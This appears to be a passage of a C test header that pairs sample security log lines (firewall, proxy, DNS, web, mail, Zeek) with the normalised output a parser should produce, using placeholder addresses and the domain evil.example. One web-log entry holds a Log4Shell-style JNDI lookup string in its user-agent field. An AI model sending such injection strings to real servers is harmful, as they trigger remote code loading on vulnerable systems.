/*
 * record_samples.h -- logs of each family that names its values, of our own
 * making, and what is to be read out of the last line (said.h).  Names and
 * addresses are those of RFC 2606, RFC 5737 and RFC 3849.
 */
#ifndef TESTS_EVIDENCE_RECORD_SAMPLES_H
#define TESTS_EVIDENCE_RECORD_SAMPLES_H

static const struct record_sample {
	const char *family, *text, *said;
} record_samples[] = {
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" devid=\"FGT60E4Q16000001\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" eventtime=1591264800 tz=\"+0200\" srcip=10.0.0.5 srcport=50000 srcintf=\"lan\" srcintfrole=\"lan\" dstip=203.0.113.9 dstport=443 dstintf=\"wan1\" dstintfrole=\"wan\" action=\"close\" transip=192.0.2.1 sentbyte=1000 rcvdbyte=2000",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T08:00:00Z sensor=fw1 bytes=1000/2000 src-local=1 | none:transip=192.0.2.1" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" devid=\"FGT60E4Q16000001\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=10.0.0.5 srcport=50000 srcintfrole=\"lan\" dstip=203.0.113.9 dstport=443 dstintfrole=\"wan\" action=\"accept\" sentbyte=60 rcvdbyte=0",
	  "flow let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=fw1 bytes=60/0 src-local=1" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" devid=\"FGT60E4Q16000001\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=203.0.113.9 srcport=50000 srcintfrole=\"wan\" dstip=192.0.2.10 dstport=22 dstintfrole=\"lan\" action=\"deny\" sentbyte=0 rcvdbyte=0",
	  "flow refused 203.0.113.9:50000 > 192.0.2.10:22 at=2020-06-04T10:00:00Z sensor=fw1 bytes=0/0 src-local=0" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" devid=\"FGT60E4Q16000001\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=10.0.0.5 srcport=50000 dstip=203.0.113.9 dstport=443 action=\"timeout\" sentbyte=100 rcvdbyte=0",
	  "flow let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=fw1 bytes=100/0" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" devid=\"FGT60E4Q16000001\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=10.0.0.5 srcport=50000 dstip=203.0.113.9 dstport=443 action=\"ip-conn\" sentbyte=0 rcvdbyte=0",
	  "flow no-answer 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=fw1 bytes=0/0" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" devid=\"FGT60E4Q16000001\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=10.0.0.5 srcport=50000 dstip=203.0.113.9 dstport=80 action=\"client-rst\" utmaction=\"block\" hostname=\"evil.example\" sentbyte=500 rcvdbyte=700",
	  "flow refused 10.0.0.5:50000 > 203.0.113.9:80 at=2020-06-04T10:00:00Z sensor=fw1 bytes=500/700 | host:hostname=evil.example" },
	{ "keyvalue",
	  "eventtime=1591264800123456789 logid=\"0317013312\" type=\"utm\" subtype=\"webfilter\" srcip=10.0.0.5 srcport=50000 dstip=203.0.113.9 dstport=80 hostname=\"evil.example\" url=\"/a?b\" agent=\"Mozilla/5.0 (X11)\" direction=\"outgoing\" action=\"passthrough\" sentbyte=500 rcvdbyte=0 devname=\"fw1\"",
	  "proxy let-through 10.0.0.5:50000 > 203.0.113.9:80 at=2020-06-04T10:00:00.123456Z sensor=fw1 bytes=500/0 | host:hostname=evil.example path:url=/a?b" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" logid=\"1501054802\" type=\"utm\" subtype=\"dns\" srcip=10.0.0.5 srcport=50000 dstip=10.0.0.53 dstport=53 qname=\"evil.example\" qtype=\"A\" action=\"redirect\" msg=\"Domain belongs to a denied category\" ",
	  "dns refused 10.0.0.5:50000 > 10.0.0.53:53 at=2020-06-04T10:00:00Z sensor=fw1 | query:qname=evil.example text:msg=Domain belongs to a denied category" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" logid=\"1501054802\" type=\"utm\" subtype=\"dns\" srcip=10.0.0.5 srcport=50000 dstip=10.0.0.53 dstport=53 qname=\"www.example\" qtype=\"A\" ipaddr=\"203.0.113.7\" action=\"pass\" policyid=1",
	  "dns answered 10.0.0.5:50000 > 10.0.0.53:53 at=2020-06-04T10:00:00Z sensor=fw1 | query:qname=www.example answer:ipaddr=203.0.113.7" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" logid=\"0101039424\" type=\"event\" subtype=\"vpn\" action=\"tunnel-up\" tunneltype=\"ssl-web\" remip=203.0.113.9 user=\"a.okafor\" group=\"staff\" dst_host=\"N/A\" msg=\"SSL tunnel established\"",
	  "login login-ok 203.0.113.9 > - at=2020-06-04T10:00:00Z sensor=fw1 user=a.okafor | user:user=a.okafor none:group=staff text:msg=SSL tunnel established" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" logid=\"0101039426\" type=\"event\" subtype=\"vpn\" action=\"ssl-login-fail\" remip=203.0.113.9 user=\"admin\" reason=\"sslvpn_login_permission_denied\"",
	  "login login-failed 203.0.113.9 > - at=2020-06-04T10:00:00Z sensor=fw1 user=admin | user:user=admin text:reason=sslvpn_login_permission_denied" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" logid=\"0419016384\" type=\"utm\" subtype=\"ips\" severity=\"high\" srcip=203.0.113.9 dstip=192.0.2.10 srcport=50000 dstport=80 action=\"dropped\" attack=\"HTTP.Scan\" msg=\"web: HTTP.Scan\"",
	  "alert refused 203.0.113.9:50000 > 192.0.2.10:80 at=2020-06-04T10:00:00Z sensor=fw1 | none:attack=HTTP.Scan text:msg=web: HTTP.Scan" },
	{ "keyvalue",
	  "date=2020-06-04 time=10:00:00 devname=\"fw1\" logid=\"0211008192\" type=\"utm\" subtype=\"virus\" srcip=10.0.0.5 dstip=203.0.113.9 srcport=50000 dstport=80 action=\"blocked\" filename=\"a.exe\" virus=\"W32/Test\" url=\"http://evil.example/a.exe\" analyticscksum=\"0000000000000000000000000000000000000000000000000000000000000001\"",
	  "http refused 10.0.0.5:50000 > 203.0.113.9:80 at=2020-06-04T10:00:00Z sensor=fw1 | file:filename=a.exe none:virus=W32/Test url:url=http://evil.example/a.exe hash:analyticscksum=0000000000000000000000000000000000000000000000000000000000000001" },
	{ "keyvalue",
	  "device=\"SFW\" date=2020-06-04 time=10:00:00 timezone=\"CEST\" device_name=\"xg1\" device_id=S1 log_id=010101600001 log_type=\"Firewall\" log_component=\"Firewall Rule\" log_subtype=\"Allowed\" status=\"Allow\" user_name=\"bob\" src_ip=10.0.0.5 dst_ip=203.0.113.9 src_port=50000 dst_port=443 sent_bytes=100 recv_bytes=200 srczone=\"LAN\" dstzone=\"WAN\"",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T08:00:00Z sensor=xg1 user=bob bytes=100/200 src-local=1 | user:user_name=bob" },
	{ "keyvalue",
	  "id=firewall sn=000000000001 time=\"2020-06-04 10:00:00 UTC\" fw=192.0.2.1 pri=6 c=1024 m=537 msg=\"Connection Closed\" n=1 src=10.0.0.5:50000:X0:ws07 dst=203.0.113.9:443:X1 proto=tcp/https sent=1000 rcvd=2000",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=192.0.2.1 bytes=1000/2000 | text:msg=Connection Closed" },
	{ "keyvalue",
	  "time=1591264800|hostname=cp1|product=Firewall|action=Drop|ifdir=inbound|ifname=eth0|loguid={0x0,0x0}|origin=192.0.2.1|src=203.0.113.9|dst=192.0.2.10|s_port=50000|service=22|proto=6|rule=7|",
	  "flow refused 203.0.113.9:50000 > 192.0.2.10 at=2020-06-04T10:00:00Z sensor=192.0.2.1 | none:ifdir=inbound none:service=22 none:rule=7" },
	{ "keyvalue",
	  "time=2020-06-04T10:00:00Z level=info msg=\"request done\" method=GET path=/login status=200 remote_addr=203.0.113.9:4711 user_agent=\"curl/7.64\" bytes=512 host=app1",
	  "server data 203.0.113.9:4711 > - at=2020-06-04T10:00:00Z bytes=0/512 | text:msg=request done path:path=/login agent:user_agent=curl/7.64 host:host=app1" },
	{ "cef",
	  "CEF:0|Vendor|Firewall|1.0|100|Traffic|3|rt=Jun 04 2020 10:00:00 src=10.0.0.5 spt=50000 dst=203.0.113.9 dpt=443 act=blocked out=100 in=0 dvchost=fw1 deviceDirection=1 msg=two words here suser=bob",
	  "flow refused 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=fw1 user=bob bytes=100/0 src-local=1 | none:signature=100 text:msg=two words here user:suser=bob" },
	{ "cef",
	  "CEF:0|Vendor|EDR|1.0|7|File quarantined|8|rt=1591264800000 dhost=evil.example fname=a.exe fileHash=d41d8cd98f00b204e9800998ecf8427f act=quarantined shost=ws07 cs1Label=Source IPv6 Address cs1=2001:db8::5 filePath=C:\\\\Users\\\\bob\\\\a.exe",
	  "file blocked-by-agent 2001:db8::5 > - at=2020-06-04T10:00:00Z | none:signature=7 host:dhost=evil.example file:fname=a.exe hash:fileHash=d41d8cd98f00b204e9800998ecf8427f none:shost=ws07 file:filePath=C:\\\\Users\\\\bob\\\\a.exe" },
	{ "cef",
	  "LEEF:2.0|Vendor|Proxy|1.0|allow|^|devTime=2020-06-04T10:00:00Z^src=10.0.0.5^dst=203.0.113.9^usrName=bob^url=http://evil.example/a^srcBytes=10^dstBytes=20^action=allowed",
	  "proxy data 10.0.0.5 > 203.0.113.9 at=2020-06-04T10:00:00Z user=bob bytes=10/20 | none:signature=allow user:usrName=bob url:url=http://evil.example/a" },
	{ "squid",
	  "1591264800.123    214 10.0.0.5 TCP_TUNNEL/200 6640 CONNECT evil.example:443 bob HIER_DIRECT/203.0.113.9 -",
	  "proxy data 10.0.0.5 > 203.0.113.9:443 at=2020-06-04T10:00:00.123Z user=bob bytes=0/6640 | host:url=evil.example user:user=bob" },
	{ "squid",
	  "1591264800.123      0 10.0.0.5 TCP_DENIED/403 3900 GET http://evil.example/a - HIER_NONE/- text/html",
	  "proxy refused 10.0.0.5 > - at=2020-06-04T10:00:00.123Z bytes=0/3900 | url:url=http://evil.example/a" },
	{ "squid",
	  "1591264800.123  60000 10.0.0.5 TCP_MISS/503 4000 GET http://203.0.113.9:8080/a - HIER_DIRECT/203.0.113.9 text/html",
	  "proxy no-answer 10.0.0.5 > 203.0.113.9:8080 at=2020-06-04T10:00:00.123Z bytes=0/4000 | url:url=http://203.0.113.9:8080/a" },
	{ "squid",
	  "1591264800.123    100 2001:db8::5 TCP_MISS/404 400 GET https://evil.example/a bob FIRSTUP_PARENT/10.1.1.7 text/html",
	  "proxy data 2001:db8::5 > - at=2020-06-04T10:00:00.123Z user=bob bytes=0/400 | url:url=https://evil.example/a user:user=bob none:peer=10.1.1.7" },
	{ "web",
	  "203.0.113.9 - - [04/Jun/2020:10:00:00 +0200] \"GET /a?x=evil.example HTTP/1.1\" 200 512 \"http://ref.example/\" \"Mozilla/5.0 (X11)\"",
	  "server data 203.0.113.9 > - at=2020-06-04T08:00:00Z bytes=0/512 | path:request=/a?x=evil.example referrer:referrer=http://ref.example/ agent:agent=Mozilla/5.0 (X11)" },
	{ "web",
	  "2001:db8::9 - bob [04/Jun/2020:10:00:00 +0000] \"POST /login HTTP/2.0\" 401 0 \"-\" \"${jndi:ldap://evil.example/a}\" 0.123 \"198.51.100.7\"",
	  "server answered 2001:db8::9 > - at=2020-06-04T10:00:00Z user=bob bytes=0/0 | path:request=/login agent:agent=${jndi:ldap://evil.example/a} forwarded:rest=198.51.100.7 user:user=bob" },
	{ "web",
	  "www.example.org:443 203.0.113.9 - - [04/Jun/2020:10:00:00 +0000] \"GET /x HTTP/1.1\" 404 152 \"-\" \"curl/7.64\"",
	  "server answered 203.0.113.9 > - at=2020-06-04T10:00:00Z bytes=0/152 | path:request=/x host:vhost=www.example.org:443 agent:agent=curl/7.64" },
	{ "web",
	  "10.0.0.5 - bob [04/Jun/2020:10:00:00 +0000] \"GET http://evil.example/a HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\" TCP_MISS:HIER_DIRECT",
	  "proxy data 10.0.0.5 > - at=2020-06-04T10:00:00Z user=bob bytes=0/512 | url:request=http://evil.example/a agent:agent=Mozilla/5.0 user:user=bob" },
	{ "web",
	  "10.0.0.5 - - [04/Jun/2020:10:00:00 +0000] \"CONNECT evil.example:443 HTTP/1.1\" 403 3900 \"-\" \"curl/7\" TCP_DENIED:HIER_NONE",
	  "proxy refused 10.0.0.5 > - at=2020-06-04T10:00:00Z bytes=0/3900 | host:request=evil.example agent:agent=curl/7" },
	{ "web_error",
	  "[Thu Jun 04 10:00:00.123456 2020] [core:error] [pid 35708:tid 43] [client 203.0.113.9:5555] File does not exist: /srv/x, referer: http://evil.example/",
	  "server unknown 203.0.113.9:5555 > - at=2020-06-04T10:00:00.123456Z | referrer:referer=http://evil.example/ text:message=File does not exist: /srv/x" },
	{ "web_error",
	  "2020/06/04 10:00:00 [error] 1234#0: *5 open() \"/srv/x\" failed (2: No such file or directory), client: 203.0.113.9, server: _, request: \"GET /x HTTP/1.1\", host: \"www.example.org\"",
	  "server unknown 203.0.113.9 > - at=2020-06-04T10:00:00Z | path:request=/x host:host=www.example.org text:message=[error] 1234#0: *5 open() \"/srv/x\" failed (2: No such file or directory)" },
	{ "w3c",
	  "#Software: Microsoft Internet Information Services 10.0\n"
	  "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
	  "2020-06-04 10:00:00 10.1.1.8 GET /a x=1 443 - 203.0.113.9 curl/7.64 - 404 0 2 15",
	  "server answered 203.0.113.9 > 10.1.1.8:443 at=2020-06-04T10:00:00Z | path:cs-uri-stem=/a path:cs-uri-query=x=1 agent:cs(User-Agent)=curl/7.64" },
	{ "w3c",
	  "#Version: 1.5\n"
	  "#Software: Microsoft Windows Firewall\n"
	  "#Time Format: Local\n"
	  "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path\n"
	  "2020-06-04 10:00:00 ALLOW TCP 10.0.0.5 203.0.113.9 50000 443 0 - 0 0 0 - - - SEND",
	  "flow let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z src-local=1" },
	{ "w3c",
	  "#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path\n"
	  "2020-06-04 10:00:00 DROP TCP 203.0.113.9 10.0.0.5 50000 445 52 S 1 0 8192 - - - RECEIVE",
	  "flow refused 203.0.113.9:50000 > 10.0.0.5:445 at=2020-06-04T10:00:00Z" },
	{ "w3c",
	  "#Software: SGOS 6.7\n"
	  "#Fields: date time time-taken c-ip cs-username cs-auth-group x-exception-id sc-filter-result cs-categories cs(Referer) sc-status s-action cs-method rs(Content-Type) cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query cs-uri-extension cs(User-Agent) s-ip sc-bytes cs-bytes r-ip\n"
	  "2020-06-04 10:00:00 90 10.0.0.5 bob - - OBSERVED \"Malicious\" - 200 TCP_NC_MISS GET text/html http evil.example 80 /a ?b - \"Mozilla/5.0 (Windows NT 10.0)\" 10.1.1.7 4000 300 203.0.113.9",
	  "proxy data 10.0.0.5 > 203.0.113.9:80 at=2020-06-04T10:00:00Z sensor=10.1.1.7 user=bob bytes=300/4000 | user:cs-username=bob none:cs-categories=Malicious host:cs-host=evil.example path:cs-uri-path=/a path:cs-uri-query=?b agent:cs(User-Agent)=Mozilla/5.0 (Windows NT 10.0)" },
	{ "w3c",
	  "#Fields: date time c-ip cs-username sc-filter-result s-action cs-method cs-host cs-uri-path s-ip r-ip\n"
	  "2020-06-04 10:00:00 10.0.0.5 - DENIED TCP_DENIED GET evil.example /a 10.1.1.7 -",
	  "proxy refused 10.0.0.5 > - at=2020-06-04T10:00:00Z sensor=10.1.1.7 | host:cs-host=evil.example path:cs-uri-path=/a" },
	{ "table",
	  "Receive Time,Serial #,Type,Threat/Content Type,Generate Time,Source address,Destination address,NAT Source IP,Rule,Source User,Application,Source Zone,Destination Zone,Source Port,Destination Port,Action,Bytes Sent,Bytes Received,Device Name\n"
	  "2020/06/04 10:00:01,001,TRAFFIC,end,2020/06/04 10:00:00,10.0.0.5,203.0.113.9,192.0.2.1,allow,corp\\bob,ssl,trust,untrust,50000,443,allow,100,200,pa1",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=pa1 user=corp\\bob bytes=100/200 src-local=1 | none:Rule=allow user:Source User=corp\\bob none:NAT Source IP=192.0.2.1" },
	{ "table",
	  "#Software: Microsoft Exchange Server\n"
	  "#Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-message-id,message-id,recipient-address,recipient-status,total-bytes,message-subject,sender-address,return-path,directionality\n"
	  "2020-06-04T10:00:00.123Z,203.0.113.9,mail.evil.example,10.1.1.26,EX1,ctx,EX1\\Default,SMTP,RECEIVE,1,<a@evil.example>,bob@example.org,,1000,Invoice,eve@evil.example,eve@evil.example,Incoming",
	  "mail unknown 203.0.113.9 > - at=2020-06-04T10:00:00.123Z sensor=EX1 mailbox=bob@example.org message=a@evil.example src-local=0 | none:client-hostname=mail.evil.example none:server-ip=10.1.1.26 none:source=SMTP sender:message-id=<a@evil.example> recipient:recipient-address=bob@example.org subject:message-subject=Invoice sender:sender-address=eve@evil.example sender:return-path=eve@evil.example" },
	{ "table",
	  "#Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,source,event-id,internal-message-id,message-id,recipient-address,message-subject,sender-address\n"
	  "2020-06-04T10:00:00.123Z,,EX1,,EX1,STOREDRIVER,DELIVER,1,<a@evil.example>,bob@example.org,\"Invoice, second\",eve@evil.example",
	  "mail delivered - > - at=2020-06-04T10:00:00.123Z sensor=EX1 mailbox=bob@example.org message=a@evil.example | none:client-hostname=EX1 none:source=STOREDRIVER sender:message-id=<a@evil.example> recipient:recipient-address=bob@example.org subject:message-subject=Invoice, second sender:sender-address=eve@evil.example" },
	{ "table",
	  "Timestamp,Policy Identity,Identities,Internal IP,External IP,Action,Query Type,Response Code,Domain,Categories\n"
	  "2020-06-04 10:00:00,bob,\"bob,site\",10.0.0.5,192.0.2.1,Blocked,1 (A),NOERROR,evil.example.,Malware",
	  "dns refused 10.0.0.5 > - at=2020-06-04T10:00:00Z src-local=1 | query:Domain=evil.example. none:Categories=Malware none:External IP=192.0.2.1" },
	{ "table",
	  "time;user;src_ip;dst_ip;dst_port;action\n"
	  "2020-06-04 10:00:00;bob;10.0.0.5;203.0.113.9;443;allowed",
	  "flow let-through 10.0.0.5 > 203.0.113.9:443 at=2020-06-04T10:00:00Z user=bob | user:user=bob" },
	{ "table",
	  "@timestamp\tcomputer\tprocess_path\tsha256\taction\n"
	  "2020-06-04T10:00:00Z\tws07\tC:\\a.exe\t0000000000000000000000000000000000000000000000000000000000000001\tblocked",
	  "process blocked-by-agent - > - at=2020-06-04T10:00:00Z computer=ws07 | file:process_path=C:\\a.exe hash:sha256=0000000000000000000000000000000000000000000000000000000000000001" },
	{ "positional",
	  "1,2020/06/04 10:00:00,001,TRAFFIC,end,2049,2020/06/04 09:59:58,10.0.0.5,203.0.113.9,192.0.2.1,203.0.113.9,allow,corp\\bob,,ssl,vsys1,trust,untrust,e1/2,e1/1,fwd,2020/06/04 10:00:00,3,1,50000,443,3000,443,0x0,tcp,allow,300,100,200,4,2020/06/04 09:59:00,58,any",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T09:59:58Z user=corp\\bob bytes=100/200 src-local=1 | none:rule=allow user:srcuser=corp\\bob none:app=ssl none:category=any none:natsrc=192.0.2.1 none:natdst=203.0.113.9" },
	{ "positional",
	  "1,2020/06/04 10:00:01,001,THREAT,url,2049,2020/06/04 10:00:01,10.0.0.5,203.0.113.9,192.0.2.1,203.0.113.9,allow,,,web-browsing,vsys1,trust,untrust,e1/2,e1/1,fwd,2020/06/04 10:00:00,3,1,50001,80,3001,80,0x0,tcp,block-url,\"evil.example/a?b\",(9999),malware,informational,client-to-server",
	  "flow refused 10.0.0.5:50001 > 203.0.113.9:80 at=2020-06-04T10:00:01Z src-local=1 | none:rule=allow none:app=web-browsing url:misc=evil.example/a?b none:threatid=(9999) none:category=malware none:natsrc=192.0.2.1 none:natdst=203.0.113.9" },
	{ "positional",
	  "\"2020-06-04 10:00:00\",\"bob\",\"bob,site\",\"10.0.0.5\",\"192.0.2.1\",\"Allowed\",\"1 (A)\",\"NXDOMAIN\",\"evil.example.\",\"Chat\"",
	  "dns no-answer 10.0.0.5 > - at=2020-06-04T10:00:00Z user=bob src-local=1 | user:identity=bob query:domain=evil.example. none:categories=Chat none:external_ip=192.0.2.1" },
	{ "positional",
	  "\"2020-06-04 10:00:00\",\"bob\",\"10.0.0.5\",\"192.0.2.1\",\"203.0.113.9\",\"text/html\",\"ALLOWED\",\"http://evil.example/a\",\"\",\"curl/7\",\"200\",\"562\",\"1489\",\"\",\"\",\"\"",
	  "proxy data 10.0.0.5 > 203.0.113.9 at=2020-06-04T10:00:00Z user=bob bytes=562/1489 src-local=1 | user:identity=bob url:url=http://evil.example/a agent:user_agent=curl/7 none:external_ip=192.0.2.1" },
	{ "positional",
	  "2 123456789010 eni-1235b8ca 203.0.113.9 172.31.16.139 443 50000 6 20 4249 1591264800 1591264860 ACCEPT OK",
	  "flow let-through 203.0.113.9:443 ? 172.31.16.139:50000 at=2020-06-04T10:00:00Z bytes=4249/0" },
	{ "positional",
	  "https 2020-06-04T10:00:00.186641Z app/my-lb/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 30 57 \"GET https://www.example.org:443/a HTTP/1.1\" \"curl/7.46.0\" - -",
	  "server data 203.0.113.9:2817 > - at=2020-06-04T10:00:00.186641Z sensor=app/my-lb/50dc6c495c0c9188 bytes=30/57 | none:target=10.0.0.1:80 path:request=https://www.example.org:443/a agent:user_agent=curl/7.46.0" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tconn\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\ttcp\tssl\t1.2\t100\t200\tSF\tT\tF",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z bytes=100/200 src-local=1 | none:service=ssl" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tconn\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\ttcp\t-\t-\t-\t-\tS0\tT\tF",
	  "flow no-answer 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z src-local=1" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tconn\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\ttcp\t-\t0.1\t0\t0\tREJ\t-\t-",
	  "flow refused 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z bytes=0/0" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tconn\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\ttcp\t-\t0.1\t0\t0\tRSTR\t-\t-",
	  "flow reset 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z bytes=0/0" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tconn\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\ttcp\t-\t0.1\t10\t20\tOTH\t-\t-",
	  "flow data 10.0.0.5:50000 ? 203.0.113.9:443 at=2020-06-04T10:00:00.5Z bytes=10/20" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tdns\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype_name\trcode\trcode_name\tanswers\trejected\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\tcount\tstring\tvector[string]\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t10.0.0.53\t53\tudp\t77\tevil.example\tA\t0\tNOERROR\tcdn.example,203.0.113.9\tF",
	  "dns answered 10.0.0.5:50000 > 10.0.0.53:53 at=2020-06-04T10:00:00.5Z | query:query=evil.example answer:answers=cdn.example answer:answers=203.0.113.9" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tdns\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype_name\trcode\trcode_name\tanswers\trejected\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tstring\tcount\tstring\tvector[string]\tbool\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t10.0.0.53\t53\tudp\t77\tevil.example\tA\t3\tNXDOMAIN\t-\tF",
	  "dns no-answer 10.0.0.5:50000 > 10.0.0.53:53 at=2020-06-04T10:00:00.5Z | query:query=evil.example" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\thttp\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\treferrer\tuser_agent\trequest_body_len\tresponse_body_len\tstatus_code\tproxied\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tstring\tstring\tcount\tcount\tcount\tset[string]\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t80\tGET\tevil.example\t/a?b\thttp://ref.example/\tMozilla/5.0 (X11)\t0\t1000\t404\tX-FORWARDED-FOR -> 198.51.100.7",
	  "http data 10.0.0.5:50000 > 203.0.113.9:80 at=2020-06-04T10:00:00.5Z bytes=0/1000 | host:host=evil.example path:uri=/a?b referrer:referrer=http://ref.example/ agent:user_agent=Mozilla/5.0 (X11) forwarded:proxied=X-FORWARDED-FOR -> 198.51.100.7" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tssl\n"
